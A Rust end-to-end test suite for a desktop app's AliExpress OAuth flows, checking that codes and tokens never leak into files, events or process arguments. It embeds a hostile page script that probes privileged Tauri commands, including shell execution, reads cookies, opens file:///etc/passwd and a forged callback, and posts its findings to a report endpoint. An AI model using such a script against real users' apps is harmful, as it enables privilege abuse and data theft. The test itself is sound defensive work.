//! Every way an answer of AliExpress comes back, in the real window: the code is seen to fill itself in, and the account.
//!
//! The loopback door with the consent in Chromium is part of the owner's first day. Here are the link of the system (with
//! the application running, and started by the link), the bridge page in Chromium, the embedded window, and pasting.

use super::arguments::Arguments;
use super::browser::chromium;
use super::desktop::Desktop;
use super::process::{poll, run_within};
use super::site::Site;
use super::webdriver::Page;
use super::{Day, SERVICE, configure, id};
use serde_json::{Value, json};
use smartlinks_core::authorization::bridge;
use smartlinks_sandbox::{APP_SECRET, visitor};
use std::time::Duration;
use url::Url;

const LINK: &str = "app.smartlinks.desktop:/aliexpress/callback";
/// Nothing answers there: who ends up there without SmartLinks sees an error of the browser.
const HTTPS: &str = "https://shop.example/aliexpress/callback";
const PATIENCE: Duration = Duration::from_secs(60);

/// What came by during the day and must not be found anywhere afterwards.
#[derive(Default)]
struct Secrets {
    codes: Vec<String>,
    kept: Vec<String>,
}

impl Secrets {
    /// What the keychain holds now; the next door replaces the tokens.
    fn gather(&mut self, day: &Day) {
        self.kept.extend(day.desktop.secrets_of(SERVICE));
        self.kept.sort();
        self.kept.dedup();
    }
}

/// Writes down all that the pages are told: on our own channels, and on the one the plugin for links would use.
const TAP: &str = r#"
const hear = (event) => { (window.tapped ??= []).push(JSON.stringify(event)); };
for (const event of ["smartlinks://event", "smartlinks://sign-in", "deep-link://new-url"]) {
  const handler = window.__TAURI_INTERNALS__.transformCallback(hear);
  window.__TAURI_INTERNALS__.invoke("plugin:event|listen", { event, target: { kind: "Any" }, handler });
}
"#;

#[test]
fn through_every_door_the_code_fills_itself_in() {
    let day = Day::begin();
    let arguments = Arguments::watch(&day.desktop);
    let mut secrets = Secrets::default();
    let window = day.open_at_home("doors", None);
    window.run(TAP);

    window.click(&id("tab-authentication"));
    window.click(&id("open-aliexpress"));
    configure(&window, HTTPS);
    let redirect = consent(&day, &window, &mut secrets);
    window.type_into(&id("ali-paste"), redirect.as_str());
    window.click(&id("ali-paste-submit"));
    filled_in(&window, &code_of(&redirect));
    secrets.gather(&day);

    again(&window, None);
    embedded(&day, &window, &mut secrets);
    secrets.gather(&day);

    again(&window, None);
    let redirect = consent(&day, &window, &mut secrets);
    let browser = bridge_page(&day, &redirect);
    filled_in(&window, &code_of(&redirect));
    drop(browser);
    secrets.gather(&day);

    again(&window, Some(LINK));
    let redirect = consent(&day, &window, &mut secrets);
    xdg_open(&day.desktop, &redirect);
    filled_in(&window, &code_of(&redirect));
    secrets.gather(&day);

    again(&window, None);
    let redirect = consent(&day, &window, &mut secrets);
    let events = window.run("return window.tapped");
    drop(window);
    // As the browser does it: the system looks up who opens such links, and starts it.
    let window = day.open_at_home("started-by-a-link", Some(redirect.as_str()));
    filled_in(&window, &code_of(&redirect));
    secrets.gather(&day);

    nothing_secret_is_left_anywhere(&day, &secrets, &arguments, &events);
}

/// Back to the guide of a connected account, perhaps with another callback address.
fn again(window: &Page, callback: Option<&str>) {
    open_menu(window);
    window.click(&id("reconnect-aliexpress"));
    if let Some(callback) = callback {
        window.click(&id("ali-edit"));
        window.type_into(&id("ali-callback"), callback);
        window.click(&id("ali-save"));
    }
}

/// Opens the menu of the account. The page may still be on its way to what just arrived, and would take the button and its menu
/// out of sight: it is opened again then, as a person does.
fn open_menu(window: &Page) {
    const IN_SIGHT: &str = "const item = document.querySelector(\"[data-testid='reconnect-aliexpress']\")?.getBoundingClientRect(); \
                            return item !== undefined && item.top >= 0 && item.bottom <= innerHeight;";
    let opened = poll(PATIENCE, || {
        window.click(&id("account-menu-aliexpress"));
        let shown = poll(Duration::from_secs(3), || {
            (window.run(IN_SIGHT) == json!(true)).then_some(())
        });
        if shown.is_none() {
            window.press_escape();
        }
        shown
    });
    assert!(opened.is_some(), "the account's menu opens in sight");
}

/// Starts an authorization and says yes on the consent page. The address AliExpress sends the browser to.
fn consent(day: &Day, window: &Page, secrets: &mut Secrets) -> Url {
    // Asked again if the page moved away from under the pointer; the button is gone once it was pressed.
    let address = poll(PATIENCE, || {
        if window
            .count(&id("ali-authorize"))
            .is_ok_and(|count| count > 0)
        {
            window.click(&id("ali-authorize"));
        }
        day.opener.address_within(Duration::from_secs(10))
    });
    let address = address.expect("the application opens an address in the system browser");
    let redirect = day
        .runtime
        .block_on(visitor::approve(&address))
        .expect("the consent page");
    secrets.codes.push(code_of(&redirect));
    redirect
}

fn code_of(redirect: &Url) -> String {
    let code = redirect.query_pairs().find(|(name, _)| name == "code");
    code.expect("a redirect with a code").1.into_owned()
}

/// Whether it is this code, as much of it as may be seen.
pub fn shows(shown: &str, code: &str) -> bool {
    let parts = code.get(..9).zip(code.get(code.len().saturating_sub(3)..));
    parts.is_some_and(|(start, end)| {
        shown.starts_with(start) && shown.ends_with(end) && !shown.contains(code)
    })
}

/// The code stands there, and the account is connected by it.
fn filled_in(window: &Page, code: &str) {
    window.text_when(&id("ali-code"), "the code that came back", |shown| {
        shows(shown, code)
    });
    connected(window);
}

fn connected(window: &Page) {
    window.at_least("#guide [data-tick='done']", 4);
    window.attribute_is(&id("account-aliexpress"), "data-state", "connected");
}

/// What the system's `xdg-open` does with a link; it must find us by the entry we registered at run time.
fn xdg_open(desktop: &Desktop, redirect: &Url) {
    let mut open = desktop.command("xdg-open");
    let done = run_within(open.arg(redirect.as_str()), "", PATIENCE);
    assert!(
        done.is_some_and(|(good, _)| good),
        "xdg-open hands the link to SmartLinks and ends"
    );
}

/// The bridge page in Chromium. The web space is on loopback here: only the origin differs from an https one. Chromium asks
/// before it hands a link to a program, once and for all when the owner ticks the box; the box is ticked here.
fn bridge_page(day: &Day, redirect: &Url) -> Page {
    let site = Site::open();
    site.put(redirect.path(), bridge::page());
    let allowed = json!({ site.address(""): { "app.smartlinks.desktop": true } });
    let prefs = json!({ "protocol_handler.allowed_origin_protocol_pairs": allowed });
    let browser = chromium(&day.desktop, &day.runtime, prefs);
    let query = redirect.query().expect("a redirect has a query");
    browser.go(&site.address(&format!("{}?{query}", redirect.path())));
    browser.until(
        "the page has taken the code out of the address",
        || match browser.address()? {
            address if !address.contains("code=") => Ok(()),
            address => Err(address),
        },
    );
    browser
}

/// What a script in a page of others might try, from the inside of the sign-in window.
const HOSTILE: &str = r#"<script>
(async () => {
  const tried = {};
  const attempt = async (name, what) => {
    try { tried[name] = { done: await what() ?? null }; } catch (error) { tried[name] = { refused: String(error?.message ?? error) }; }
  };
  const bridge = window.__TAURI_INTERNALS__;
  for (const command of COMMANDS) {
    await attempt(command, () => Promise.race([
      bridge.invoke(command, {}),
      new Promise((_, refuse) => setTimeout(() => refuse("no answer"), 3000)),
    ]));
  }
  tried.cookies = { stored: document.cookie };
  document.cookie = "seen=here; max-age=86400; path=/";
  for (const address of ["SITE/elsewhere", "file:///etc/passwd", "tauri://localhost/", "app.smartlinks.desktop:/aliexpress/callback?code=3_500000_Forged&state=forged"]) {
    const frame = document.createElement("iframe");
    frame.src = address;
    frame.hidden = true;
    document.body.append(frame);
    window.open(address);
  }
  const { x, y, width, height } = document.querySelector("button[value=approve]").getBoundingClientRect();
  tried.yes = { x: Math.round(x + width / 2), y: Math.round(y + height / 2) };
  await fetch("SITE/report", { method: "POST", mode: "no-cors", body: JSON.stringify(tried) });
})();
</script>"#;

/// Also what Tauri's core and its plugins would do for a window that may.
const OF_OTHERS: &[&str] = &[
    "plugin:event|listen",
    "plugin:event|emit",
    "plugin:window|close",
    "plugin:webview|create_webview_window",
    "plugin:webview|internal_toggle_devtools",
    "plugin:app|version",
    "plugin:path|resolve_directory",
    "plugin:shell|execute",
    "plugin:opener|open_url",
    "plugin:store|load",
    "plugin:log|log",
    "plugin:deep-link|get_current",
    "plugin:notification|notify",
];

/// Opens the sign-in window, again if the page moved away from under the pointer.
fn sign_in(window: &Page, host: &str) {
    const SHOWN: &str = "return document.querySelector(\"[data-testid='sign-in'] [role='status']\")?.innerText ?? ''";
    let opened = poll(PATIENCE, || {
        window.click(&id("ali-sign-in"));
        poll(Duration::from_secs(10), || {
            let shown = window.run(SHOWN);
            shown.as_str()?.contains(host).then_some(())
        })
    });
    assert!(opened.is_some(), "the window says whose page it shows");
}

fn embedded(day: &Day, window: &Page, secrets: &mut Secrets) {
    let site = Site::open();
    let commands: Vec<&str> = super::commands()
        .into_iter()
        .chain(OF_OTHERS.iter().copied())
        .collect();
    let script = HOSTILE
        .replace("COMMANDS", &json!(commands).to_string())
        .replace("SITE", site.address("").trim_end_matches('/'));
    day.sandbox.control().taint_consent(&script);

    let host = format!(
        "127.0.0.1:{}",
        day.sandbox.aliexpress_url().port().unwrap_or(0)
    );
    sign_in(window, &host);
    let title = format!("{host} – SmartLinks");
    held_in(&site, 1, &commands);

    // Cancelled, the window goes; the next one knows nothing of what the page had stored.
    window.click(&id("ali-cancel"));
    window.attribute_is(&id("sign-in"), "data-open", "false");
    assert!(!with_window(&day.desktop, &title, &[]), "it is still open");
    sign_in(window, &host);
    let report = held_in(&site, 2, &commands);

    // A hand on the mouse: to the button that says yes, where the page says it is.
    let place = |name: &str| report["yes"][name].to_string();
    let (x, y) = (place("x"), place("y"));
    let click = [
        "windowraise",
        "mousemove",
        "--window",
        "%1",
        &x,
        &y,
        "click",
        "1",
    ];
    assert!(
        with_window(&day.desktop, &title, &click),
        "the window is there"
    );
    window.text_when(&id("ali-code"), "the code that came back", |shown| {
        !shown.is_empty()
    });
    let code = day.sandbox.control().newest_code().expect("a code");
    filled_in(window, &code);
    secrets.codes.push(code);
    window.attribute_is(&id("account-aliexpress"), "data-state", "connected");
    let gone = poll(PATIENCE, || {
        (!with_window(&day.desktop, &title, &[])).then_some(())
    });
    assert!(gone.is_some(), "the sign-in window closes by itself");
    day.sandbox.control().taint_consent("");
}

/// What the page could do, the `visit`th time it was shown: nothing.
fn held_in(site: &Site, visit: usize, commands: &[&str]) -> Value {
    let reports = || -> Vec<Value> {
        let hits = site.hits();
        let reports = hits.iter().filter(|hit| hit.asked.contains("/report"));
        reports
            .filter_map(|hit| serde_json::from_str(&hit.body).ok())
            .collect()
    };
    let report = poll(PATIENCE, || reports().into_iter().nth(visit - 1));
    let report = report.expect("the page reports what it tried");
    assert_eq!(
        report["cookies"]["stored"],
        json!(""),
        "nothing is kept from one window to the next"
    );
    for command in commands {
        let refused = report[command]["refused"].as_str().unwrap_or_default();
        assert!(
            refused.contains("not allowed"),
            "{command} in the sign-in window: {}",
            report[command]
        );
    }
    let elsewhere: Vec<_> = site
        .hits()
        .into_iter()
        .filter(|hit| !hit.asked.contains("/report"))
        .collect();
    assert!(elsewhere.is_empty(), "it went elsewhere: {elsewhere:?}");
    report
}

/// Does something to the window of this title, as a window manager and a keyboard would; whether there is one.
fn with_window(desktop: &Desktop, title: &str, what: &[&str]) -> bool {
    let mut tool = desktop.command("xdotool");
    tool.args(["search", "--name", title]).args(what);
    run_within(&mut tool, "", PATIENCE).is_some_and(|(found, _)| found)
}

/// After all of it: the keychain alone knows. What the system passes from program to program is another matter, see below.
fn nothing_secret_is_left_anywhere(
    day: &Day,
    secrets: &Secrets,
    arguments: &Arguments,
    events: &Value,
) {
    assert!(
        secrets.codes.len() == 5 && secrets.kept.len() >= 11,
        "a key pair and a pair of tokens a door"
    );
    assert!(secrets.kept.iter().any(|secret| secret == APP_SECRET));
    let events = events.to_string();
    assert!(
        events.contains("connected"),
        "the events were heard: {events}"
    );
    let chromium = day.desktop.path("chromium");
    for secret in &secrets.kept {
        let files = day.desktop.files_with(secret);
        assert!(files.is_empty(), "a secret stands in {files:?}");
        assert!(!events.contains(secret.as_str()), "a page is told a secret");
        assert_eq!(arguments.with(secret), [[""; 0]; 0], "as an argument");
    }
    for code in &secrets.codes {
        // The browser's own history is not ours to keep clean; the code in it is used up.
        let files = day.desktop.files_with(code).into_iter();
        let files: Vec<_> = files.filter(|file| !file.starts_with(&chromium)).collect();
        assert!(files.is_empty(), "a code stands in {files:?}");
        assert!(!events.contains(code.as_str()), "a page is told a code");
        // A link of the system is handed over as an argument, by every system and to every program: its code is there for
        // the moment this takes, which is why it is exchanged at once and good only once. Nobody passes it on in another way.
        for program in arguments.with(code) {
            let link = program.last().is_some_and(|last| last.starts_with(LINK));
            assert!(link, "a code outside of a link: {program:?}");
        }
    }
    let pasted = secrets.codes.first().map(|code| arguments.with(code));
    assert_eq!(pasted, Some(Vec::new()), "a pasted code is no argument");
    let caught = secrets.codes.get(1).map(|code| arguments.with(code));
    assert_eq!(caught, Some(Vec::new()), "nor is one caught in the window");
}
